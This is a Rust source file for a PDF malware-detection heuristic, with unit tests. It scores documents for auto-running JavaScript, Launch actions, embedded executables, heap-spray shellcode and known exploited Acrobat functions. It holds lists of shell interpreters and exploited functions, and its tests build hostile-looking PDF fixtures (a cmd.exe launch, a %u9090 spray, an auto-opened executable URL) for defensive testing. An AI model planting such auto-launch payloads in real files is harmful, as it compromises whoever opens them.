//! PDF: scripts, actions, attachments, and what hides them.
//!
//! [`tokens`] reads names and strings out of objects, object streams and scripts; here they are weighed. Forms that compute,
//! presentations that turn pages and scans in JBIG2 are ordinary; a script that runs by itself and unpacks itself is not.
//! Signs after ISO 32000-2 §12.6 (actions) and Didier Stevens' pdfid.

mod tokens;

use std::time::{Duration, Instant};

use portcullis_core::domain::engine::PDF;

use self::tokens::Tokens;
use super::deceptive::runs_from_pdf;
use super::score::Score;
use super::{Heuristic, Subject};

/// The engine.
pub(crate) const ENGINE: Heuristic = Heuristic { identity: PDF, judge };

/// Points from which a file is suspicious.
const THRESHOLD: u32 = 3;
/// Time for object streams and scripts.
const BUDGET: Duration = Duration::from_secs(20);
/// Functions of the reader with known holes (CVE-2007-5659, CVE-2008-2992, CVE-2009-0927, CVE-2009-4324, CVE-2009-1493, CVE-2010-…).
const EXPLOITED: &[&str] =
    &["collab.collectemailinfo", "collab.geticon", "media.newplayer", "spell.customdictionaryopen", "util.printf(\"%45000", "doc.printseps"];

fn judge(subject: &Subject<'_>) -> Result<Option<String>, &'static str> {
    // Readers look for the header within the first kilobyte (ISO 32000-2, Annex I.2).
    let head = subject.content.get(..1_024).unwrap_or(subject.content);
    if memchr::memmem::find(head, b"%PDF-").is_none() {
        return Ok(None);
    }
    let tokens = tokens::read(subject.content, Instant::now() + BUDGET);
    match weigh(&tokens).threat("Heur.PDF", THRESHOLD) {
        None if tokens.is_cut => Err("the PDF unpacks to more than is looked at"),
        found => Ok(found),
    }
}

fn weigh(tokens: &Tokens) -> Score {
    let has = |name: &str| tokens.count(name) > 0;
    let mut score = Score::default();
    let script = has("JS") || has("JavaScript") || !tokens.scripts.is_empty();
    let automatic = has("OpenAction") || has("AA");
    let file = |name: &String| runs_from_pdf(name);
    let carries = has("EmbeddedFile") && tokens.files.iter().any(file);

    score.add(3, "AttachedProgram", carries);
    let command = tokens.files.iter().chain(&tokens.parameters).any(|text| file(text) || interpreter(text));
    score.add(3, "LaunchProgram", has("Launch") && command);
    score.add(2, "Launch", has("Launch") && !command);
    score.add(3, "HiddenNames", tokens.hidden_names > 0);
    score.add(
        3,
        "RemoteFile",
        automatic && (has("GoToE") || has("GoToR") || has("ImportData")) && tokens.files.iter().any(|f| f.starts_with("\\\\") || f.starts_with("//")),
    );
    let address = |uri: &String| runs_from_pdf(uri.split(['?', '#']).next().unwrap_or_default());
    score.add(3, "OpensProgram", automatic && tokens.automatic_uri && tokens.uris.iter().any(address));

    for code in &tokens.scripts {
        let code = code.to_lowercase();
        let compact: String = code.chars().filter(|c| !c.is_whitespace()).collect();
        let any = |words: &[&str]| words.iter().any(|word| compact.contains(word));
        score.add(3, "Exploit", any(EXPLOITED));
        score.add(3, "Shellcode", compact.matches("%u").count() > 10 && any(&["unescape("]));
        score.add(3, "Shellcode", compact.matches("\\u").count() > 200 && any(&["eval(", "unescape(", ".substr("]));
        score.add(3, "ExportsAndOpens", compact.contains("exportdataobject(") && any(&["nlaunch:1", "nlaunch:2"]));
        let decodes = any(&["fromcharcode", "unescape(", "parseint(", ".replace(/", "atob("]);
        score.add(2, "Unpacks", any(&["eval(", "newfunction(", "app.settimeout("]) && decodes);
        score.add(1, "CodeInText", any(&["eval("]) && any(&["getannots(", "syncannotscan(", "this.info.", "event.target.", "getfield("]));
        score.add(1, "Address", any(&["app.launchurl(", "geturl(", "submitform("]) && automatic);
        score.add(1, "LongString", longest_run(&code) > 2_000);
    }
    score.add(1, "AutomaticScript", script && automatic);
    score.add(1, "FilterChain", tokens.longest_chain >= 4);
    score.add(1, "JBIG2WithScript", script && automatic && has("JBIG2Decode"));
    score.add(1, "RichMedia", (has("RichMedia") || has("3D") || has("Flash")) && script);
    score
}

fn interpreter(text: &str) -> bool {
    let lower = text.to_lowercase();
    ["cmd.exe", "cmd ", "powershell", "mshta", "rundll32", "wscript", "cscript", "regsvr32", "/bin/sh", "/bin/bash", "certutil"]
        .iter()
        .any(|name| lower.contains(name))
}

/// The longest run of what encoded data is made of.
fn longest_run(code: &str) -> usize {
    code.split(|c: char| !(c.is_ascii_alphanumeric() || matches!(c, '+' | '/' | '=' | '%'))).map(str::len).max().unwrap_or(0)
}

#[cfg(test)]
mod tests {
    use std::io::Write;

    use super::*;
    use crate::engine::tests_support::judged;

    fn pdf(objects: &[&str]) -> Vec<u8> {
        let body = objects.iter().enumerate().map(|(n, o)| format!("{} 0 obj\n{o}\nendobj\n", n + 1)).collect::<Vec<_>>().concat();
        format!("%PDF-1.7\n%\u{e2}\u{e3}\n{body}trailer<</Root 1 0 R>>\n%%EOF\n").into_bytes()
    }

    fn threat(objects: &[&str]) -> Option<String> {
        judged(judge, "a.pdf", &pdf(objects)).unwrap()
    }

    #[test]
    fn what_unpacks_to_more_than_is_read_is_not_clean() {
        let mut encoder = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::fast());
        encoder.write_all(&vec![b' '; 9 << 20]).unwrap();
        let stream = encoder.finish().unwrap();
        let document = [b"%PDF-1.7\n1 0 obj<</Type/ObjStm/N 1/First 4/Filter/FlateDecode>>stream\n".as_slice(), &stream, b"\nendstream"].concat();
        assert!(judged(judge, "a.pdf", &document).is_err());
        assert_eq!(judged(judge, "a.pdf", &pdf(&["<</Type/Catalog>>"])), Ok(None));
    }

    #[test]
    fn hostile() {
        let spray = format!("<</Type/Catalog/OpenAction<</S/JavaScript/JS(var s=unescape\\('{}'\\);)>>>>", "%u9090%u9090".repeat(10));
        for (objects, name) in [
            (vec!["<</OpenAction<</S/Launch/Win<</F(cmd.exe)/P(/c calc)>>>>>>"], "LaunchProgram"),
            (vec![spray.as_str()], "Shellcode"),
            (vec!["<</OpenAction<</S/J#61vaScript/JS(x)>>>>"], "HiddenNames"),
            (
                vec!["<</Names<</EmbeddedFiles 2 0 R>>>>", "<</Type/Filespec/F(invoice.exe)/EF<</F 3 0 R>>>>", "<</Type/EmbeddedFile>>"],
                "AttachedProgram",
            ),
            (vec!["<</AA<</O<</S/JavaScript/JS<6576616C28537472696E672E66726F6D43686172436F6465283129293B>>>>>>>"], "Unpacks"),
            (vec!["<</OpenAction<</S/JavaScript/JS(this.exportDataObject\\({cName:'a',nLaunch:2}\\))>>>>"], "ExportsAndOpens"),
            (vec!["<</OpenAction<</S/GoToE/F(\\\\\\\\192.0.2.1\\\\x)>>>>"], "RemoteFile"),
            (vec!["<</OpenAction<</S/URI/URI(http://192.0.2.1/a.exe)>>>>"], "OpensProgram"),
        ] {
            assert_eq!(threat(&objects).as_deref(), Some(format!("Heur.PDF.{name}").as_str()), "{objects:?}");
        }
    }

    #[test]
    fn ordinary() {
        for objects in [
            vec!["<</Type/Catalog/OpenAction[3 0 R/FitH]>>"],
            vec!["<</AcroForm<<>>/AA<</F<</S/JavaScript/JS(AFNumber_Format\\(2,0,0,0,\"\",true\\);)>>>>>>"],
            vec!["<</OpenAction<</S/JavaScript/JS(this.print\\({bUI:true}\\);)>>>>"],
            vec!["<</A<</S/URI/URI(https://example.org/setup.exe)>>>>"],
            vec!["<</Names<</EmbeddedFiles 2 0 R>>>>", "<</Type/Filespec/F(data.xml)/EF<</F 3 0 R>>>>", "<</Type/EmbeddedFile>>"],
            vec!["<</Filter[/JBIG2Decode]/Type/XObject>>"],
            vec!["<</Type/Font/BaseFont/Arial#20Bold/Name/A#2FB>>"],
            vec!["<</Title(/JavaScript /Launch cmd.exe eval\\(unescape\\()>>"],
        ] {
            assert_eq!(threat(&objects), None, "{objects:?}");
        }
        assert_eq!(judged(judge, "a.txt", b"no %PDF at all"), Ok(None));
    }

    #[test]
    fn object_streams_and_compressed_scripts_are_looked_into() {
        let deflated = |bytes: &[u8]| {
            let mut encoder = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::default());
            encoder.write_all(bytes).unwrap();
            encoder.finish().unwrap()
        };
        let stream = |dictionary: &str, bytes: &[u8]| {
            let data = deflated(bytes);
            [b"%PDF-1.7\n1 0 obj\n<<", dictionary.as_bytes(), b"/Filter/FlateDecode>>\nstream\r\n", &data, b"\nendstream\nendobj\n"].concat()
        };
        let hidden = stream("/Type/ObjStm/N 1/First 4", b"2 0 <</OpenAction<</S/Launch/Win<</F(cmd.exe)>>>>>>");
        assert_eq!(judged(judge, "a", &hidden).unwrap().as_deref(), Some("Heur.PDF.LaunchProgram"));
        let code = format!("var x = unescape(\"{}\"); app.alert(x); function f() {{ return x; }}", "%u4141".repeat(30));
        let script = [stream("", code.as_bytes()), b"2 0 obj <</OpenAction<</S/JavaScript/JS 1 0 R>>>> endobj".to_vec()].concat();
        assert_eq!(judged(judge, "a", &script).unwrap().as_deref(), Some("Heur.PDF.Shellcode"));
    }
}
